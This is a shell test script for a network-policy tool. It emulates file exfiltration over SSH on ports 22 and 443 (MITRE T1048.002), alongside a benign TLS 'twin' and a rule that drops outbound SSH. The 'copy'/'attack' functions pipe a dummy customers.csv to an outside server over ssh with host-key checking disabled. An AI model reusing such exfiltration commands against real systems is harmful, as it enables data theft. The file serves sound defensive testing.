# SPDX-License-Identifier: Apache-2.0
# Files out encrypted: SSH to a server outside, on port 443 where only TLS belongs, and on 22. The twin is TLS on 443.
technique=T1048.002 what="files out by SSH" rule=ssh-leaves
policy() { cat <<END
weir: 1
$(zones)
rules:
  - name: ssh-leaves
    technique: [T1048.002]
    match: { from: inside, to: outside, app.protocol: ssh }
    action: drop
END
}
servers() {
  mkdir -p "$in/run/sshd" "$in/root/.ssh"
  chroot "$in" ssh-keygen -A >/dev/null
  chroot "$in" ssh-keygen -q -t ed25519 -N '' -f root/.ssh/id_ed25519
  cp "$in/root/.ssh/id_ed25519.pub" "$in/root/.ssh/authorized_keys"
  printf 'Host *\n  StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n  ConnectTimeout 4\n' >"$in/root/.ssh/config"
  printf 'one,two,three\n%.0s' {1..60} >"$in/srv/customers.csv"
  serve world /usr/sbin/sshd -D -e -o ListenAddress=10.77.0.200:22 -o ListenAddress=10.77.0.200:443 -o UsePAM=no -o PidFile=none
  chroot "$in" openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=www.example.com -keyout /srv/key.pem -out /srv/cert.pem 2>/dev/null
  serve world openssl s_server -accept 8443 -key /srv/key.pem -cert /srv/cert.pem -www
}
copy() { at mallory timeout 8 sh -c "ssh -p $1 10.77.0.200 'cat >/dev/null' </srv/customers.csv"; }
attack() { copy 22 || copy 443; }
twin() { at alice curl -sk --max-time 6 -o /dev/null https://10.77.0.200:8443/; }
